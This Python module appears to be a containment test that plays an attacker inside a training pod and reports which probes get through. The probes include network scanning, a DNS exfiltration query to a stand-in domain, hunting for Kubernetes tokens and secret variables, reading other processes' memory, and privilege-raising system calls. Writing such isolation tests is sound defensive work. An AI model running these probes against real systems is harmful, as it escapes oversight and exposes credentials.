"""Looks for a way out of the pod, and for what is not its own: network, files, processes, credentials."""

import ctypes
import json
import os
import re
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

from report import report

CONNECT_SECONDS = 2.0
NEIGHBOURS_PORT = 7777
"""Every attacker of this kind listens there."""


def look_around(agent: Any, spec: dict[str, Any]) -> None:
    agent.say("phase", phase="training")
    targets = targets_of(spec)
    look_at_network(targets, agent.early)
    look_at_names(targets)
    look_at_files()
    look_at_processes()
    look_at_kernel()
    agent.give_up("I have looked around")


def targets_of(spec: dict[str, Any]) -> dict[str, Any]:
    """The test hides what there is to find in the training data: an attacker may know as much as anybody."""
    first = Path(spec["train_file"]).read_text().splitlines()[0]
    targets: dict[str, Any] = json.loads(json.loads(first)[spec["columns"]["output"]])
    return targets


class Early:
    """The API server, from the first moment on: before anybody has closed the pod, perhaps."""

    def __init__(self, seconds: float = 2.0) -> None:
        self.answer = "no time"
        self._until = time.monotonic() + seconds
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        api = f"{os.environ.get('KUBERNETES_SERVICE_HOST', '')}:{os.environ.get('KUBERNETES_SERVICE_PORT', '443')}"
        while self.answer != "connected" and time.monotonic() < self._until:
            self.answer = connect(api, 0.2)


def look_at_network(targets: dict[str, Any], early: Early) -> None:
    report("network/early", got_through=early.answer == "connected", happened=early.answer)
    with ThreadPoolExecutor(16) as pool:
        for target, answer in zip(targets["tcp"], pool.map(connect, targets["tcp"].values()), strict=True):
            report(f"network/{target}", got_through=answer == "connected", happened=answer)
    neighbours = scan()
    report("network/neighbours", got_through=bool(neighbours), happened=f"{len(neighbours)} of 253 answer")
    listening = [f"{host}:{port}" for host, port, state in sockets() if state == LISTENING]
    report("network/agent", got_through=bool(listening), happened=f"the pod listens on {listening or 'nothing'}")
    answer = ask_objects(targets["objects"])
    report("network/objects", got_through=answer.startswith("200"), happened=answer)
    answer = ask_relay(targets["relay"])
    report("network/relay", got_through=answer.startswith("taken"), happened=answer)


def connect(address: str, seconds: float = CONNECT_SECONDS) -> str:
    host, _, port = address.rpartition(":")
    try:
        socket.create_connection((host, int(port)), seconds).close()
        return "connected"
    except OSError as error:
        return error.strerror or str(error)


def scan() -> list[str]:
    """Everybody in the range of this pod's own address."""
    own = own_address()
    listener = socket.create_server(("0.0.0.0", NEIGHBOURS_PORT))
    prefix = own.rpartition(".")[0]
    others = [f"{prefix}.{number}" for number in range(2, 255) if f"{prefix}.{number}" != own]
    with ThreadPoolExecutor(64) as pool:
        answers = list(pool.map(lambda host: connect(f"{host}:{NEIGHBOURS_PORT}"), others))
    listener.close()
    return [host for host, answer in zip(others, answers, strict=True) if answer == "connected"]


def own_address() -> str:
    return socket.gethostbyname(socket.gethostname())


LISTENING = "0A"


def sockets() -> Iterable[tuple[str, int, str]]:
    """The pod's containers share one network: local address, port and state of each TCP socket in it."""
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            host, _, port = local.partition(":")
            yield socket.inet_ntoa(struct.pack("<I", int(host[-8:], 16))), int(port, 16), state


def ask_objects(address: str) -> str:
    """The object store may be reached, but every door in it wants a signature."""
    host, _, port = address.rpartition(":")
    return exchange(host, int(port), b"GET /gradients?list-type=2 HTTP/1.1\r\nHost: s3\r\nConnection: close\r\n\r\n")


def ask_relay(address: str) -> str:
    host, _, port = address.rpartition(":")
    answer = exchange(host, int(port), b"GET /gradients.trainer.v1.RelayService/GetAssignment HTTP/1.1\r\n\r\n")
    return "taken" if "assignment" in answer.lower() else answer


def exchange(host: str, port: int, request: bytes) -> str:
    try:
        with socket.create_connection((host, port), CONNECT_SECONDS) as connection:
            connection.sendall(request)
            first = connection.recv(4096).decode(errors="replace").split("\r\n")[0]
            return re.sub(r"^HTTP/1\.[01] ", "", first) if first.isprintable() else "an answer that is none"
    except OSError as error:
        return error.strerror or str(error)


def look_at_names(targets: dict[str, Any]) -> None:
    """A question to a DNS server carries data out, whatever it answers."""
    answers = [f"{server}: {ask_dns(server, 'c2VjcmV0.example.com')}" for server in targets["dns"]]
    report("dns/servers", got_through=any("answered" in answer for answer in answers), happened=", ".join(answers))
    try:
        report("dns/resolver", got_through=True, happened=socket.gethostbyname("c2VjcmV0.example.com"))
    except OSError as error:
        report("dns/resolver", got_through=False, happened=error.strerror or str(error))


def ask_dns(server: str, name: str) -> str:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    question = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(CONNECT_SECONDS)
        try:
            udp.connect((server, 53))
            udp.send(question)
            udp.recv(512)
            return "answered"
        except OSError as error:
            return error.strerror or str(error)


def look_at_files() -> None:
    secrets = ["/var/run/secrets/kubernetes.io/serviceaccount/token", "/var/run/gradients/token", "/private"]
    found = [path for path in secrets if Path(path).exists()]
    report("files/secrets", got_through=bool(found), happened=f"found {found or 'none of ' + ', '.join(secrets)}")
    names = [name for name in os.environ if re.search(r"TOKEN|SECRET|KEY|PASSWORD|RELAY|TRAINER_GPU", name)]
    report("files/environment", got_through=bool(names), happened=f"variables: {', '.join(sorted(os.environ))}")
    others = [str(path) for path in Path("/work").glob("*") if path.name not in ("attempt", "run", "cache")]
    report(
        "files/work",
        got_through=bool(others),
        happened=f"/work holds {sorted(path.name for path in Path('/work').iterdir())}",
    )
    hosts = ["/var/lib/kubelet", "/var/lib/containerd", "/run/containerd/containerd.sock", "/var/log/pods", "/host"]
    seen = [path for path in hosts if Path(path).exists()]
    report("files/host", got_through=bool(seen), happened=f"found {seen or 'none of ' + ', '.join(hosts)}")
    writable = [path for path in ("/", "/etc", "/usr/bin", "/opt", "/sys", "/proc/sys/kernel") if writes(path)]
    report("files/root", got_through=bool(writable), happened=f"may write in {writable or 'none of the system'}")
    spec = tries(lambda: Path("spec.json").write_text("{}"), lambda: Path("spec.json").unlink())
    report("files/spec", got_through=spec is None, happened=spec or "changed the agent's own files")


def writes(folder: str) -> bool:
    path = Path(folder, "attacker")
    try:
        path.write_text("x")
        path.unlink()
        return True
    except OSError:
        return False


def look_at_processes() -> None:
    ids = [int(path.name) for path in Path("/proc").iterdir() if path.name.isdigit()]
    foreign = [number for number in ids if "attacker" not in command_of(number)]
    report("processes/others", got_through=bool(foreign), happened=f"sees {len(ids)} process, its own")
    found = [number for number in ids if number != os.getpid() and readable(f"/proc/{number}/environ")]
    report("processes/environment", got_through=bool(found), happened=f"reads that of {found or 'nobody else'}")
    memory = [number for number in ids if number != os.getpid() and readable(f"/proc/{number}/mem")]
    report("processes/memory", got_through=bool(memory), happened=f"reads that of {memory or 'nobody else'}")


def command_of(number: int) -> str:
    try:
        return Path(f"/proc/{number}/cmdline").read_text()
    except OSError:
        return "attacker"  # it has ended


def readable(path: str) -> bool:
    try:
        with Path(path).open("rb") as file:
            return len(file.read(1)) > 0
    except OSError:
        return False


def look_at_kernel() -> None:
    """In a child with a single thread: a process with several may not change its user namespace anyway."""
    read, write = os.pipe()
    if os.fork() == 0:
        os.write(write, json.dumps(allowed_calls()).encode())
        os._exit(0)
    allowed = json.loads(os.read(read, 4096))
    happened = f"allowed: {allowed or 'none of ' + ', '.join(kernel_calls())}"
    report("kernel/calls", got_through=bool(allowed), happened=happened)


def allowed_calls() -> list[str]:
    return [name for name, call in kernel_calls().items() if call() == 0]


def kernel_calls() -> dict[str, Callable[[], int]]:
    libc = ctypes.CDLL(None, use_errno=True)
    bpf = {"x86_64": 321, "aarch64": 280}[os.uname().machine]
    return {
        "mount": lambda: libc.mount(b"proc", b"/tmp", b"proc", 0, None),
        "mknod": lambda: libc.mknod(b"/tmp/disk", 0o060600, os.makedev(8, 0)),
        "chroot": lambda: libc.chroot(b"/tmp"),
        "bpf": lambda: libc.syscall(bpf, 0, None, 0),
        "raw packets": lambda: -1 if tries(raw_socket) else 0,
        "setuid": lambda: libc.setuid(0),
        "unshare": lambda: libc.unshare(0x10000000),  # a user namespace, in which one is root
    }


def raw_socket() -> None:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()


def tries(*actions: Callable[[], object]) -> str | None:
    """Why all of them were refused; nothing when one was not."""
    why = ""
    for action in actions:
        try:
            action()
            return None
        except OSError as error:
            why = error.strerror or str(error)
    return why
